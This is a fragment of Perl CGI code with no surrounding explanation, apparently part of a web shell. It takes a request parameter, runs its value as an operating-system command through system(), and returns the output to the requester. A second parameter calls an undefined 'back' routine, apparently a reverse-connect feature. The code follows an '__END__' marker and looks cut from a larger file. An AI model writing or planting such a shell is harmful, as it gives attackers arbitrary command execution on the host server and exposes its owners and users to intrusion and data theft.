exit;
__END__
my $t = "/tmp/77";
if ($cgi->param('one')) { go($cgi->param('one')) } elsif ($cgi->param('two')) { back($cgi->param('two')) }
sub go {
  my $k = shift;
  system("$k >$t 2>&1");
  open(H, $t);
  print while <H>;
}
